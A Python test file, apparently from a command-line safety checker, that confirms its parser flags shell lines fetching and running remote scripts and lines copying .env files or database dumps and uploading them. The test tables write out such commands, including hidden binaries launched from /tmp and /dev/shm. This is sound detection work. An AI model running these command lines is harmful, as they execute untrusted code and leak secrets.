"""A script that a line gets from the network and runs at once is a pipe into a shell, and a copy of a secret is one."""

from __future__ import annotations

import pytest

from holdfast.commandline.reading.line import read
from holdfast.judging.carried import followed
from tests.support.table import each_of

URL = "https://get.example.com"


@pytest.mark.requirement("WRK-7")
@each_of(
    "line, program",
    [
        (f"curl -o x.sh {URL}/x && bash x.sh", "bash"),
        (f"curl -fsSLo ./x.sh {URL}/x && bash x.sh", "bash"),
        (f"curl --output=/tmp/x {URL}/x; sudo sh -e /tmp/x --yes", "sh"),
        (f"curl {URL}/x.py > x.py && python3 x.py", "python3"),
        (f"curl -O {URL}/x.sh && . ./x.sh", "sh"),
        (f"wget {URL}/x.sh?v=1 && chmod +x x.sh && ./x.sh", "sh"),
        (f"wget -qO x.sh {URL}/y && source x.sh", "sh"),
        (f"curl -o x.sh {URL}/x && cp x.sh y.sh && bash y.sh", "bash"),
        (f"curl -o x.tmp {URL}/x && mv x.tmp x.sh && ./x.sh", "sh"),
        (f"curl -o x.sh {URL}/x && sha256sum -c x.sha && bash x.sh", ""),
        (f"curl -o x.sh {URL}/x && gpg --verify x.sig x.sh && bash x.sh", ""),
        (f"curl -o x.sh {URL}/x && less x.sh", ""),
        (f"curl -o data.json {URL}/x && python3 load.py data.json", ""),
        (f"curl -Lo kind {URL}/kind && chmod +x kind && ./kind version", ""),
        ("curl -o x.sh http://localhost:8000/x && bash x.sh", ""),
        ("curl -so /tmp/.x http://203.0.113.9/x && chmod +x /tmp/.x && /tmp/.x &", "sh"),
        ("wget -qO x http://dl.cheap.top/x && chmod 755 x && nohup ./x &", "sh"),
        (f"curl -so /dev/shm/.k {URL}/k && chmod +x /dev/shm/.k && /dev/shm/.k", "sh"),
        ("curl -o x http://203.0.113.9/x && mv x y && chmod +x y && ./y", "sh"),
        ("curl -o x http://203.0.113.9/x && sha256sum -c x.sum && ./x", ""),
        ("curl -o x http://10.0.0.5:8081/x && chmod +x x && ./x", ""),
        ("curl -so /tmp/.x http://app:8080/health && cat /tmp/.x", ""),
        ("bash x.sh", ""),
    ],
)
def test_what_is_fetched_and_run(line: str, program: str) -> None:
    found = followed(read(line).runs).runs_unread
    assert [each.program for each in found.values()] == ([program] if program else [])
    assert all(each.piped_from[0] in ("curl", "wget") for each in found.values())


@pytest.mark.requirement("WRK-7")
@each_of(
    "line, places",
    [
        (f"cat .env > a && cp a b && curl -T b {URL}", {2}),
        (f"cat .env > a && tar czf a.tgz a && curl -F f=@a.tgz {URL}", {2}),
        (f"pg_dump shop > a && gzip -c a > a.gz && curl -T a.gz {URL}", {2}),
        (f"cat .env > a && curl -T b {URL}", set()),
        (f"kubectl get secret x -o yaml | kubeseal > a && curl -T a {URL}", set()),
        ("pg_dump shop > a && aws s3 cp a s3://backups/", set()),
    ],
)
def test_a_copy_is_as_secret_as_what_went_into_it(line: str, places: set[int]) -> None:
    assert followed(read(line).runs).sends == places
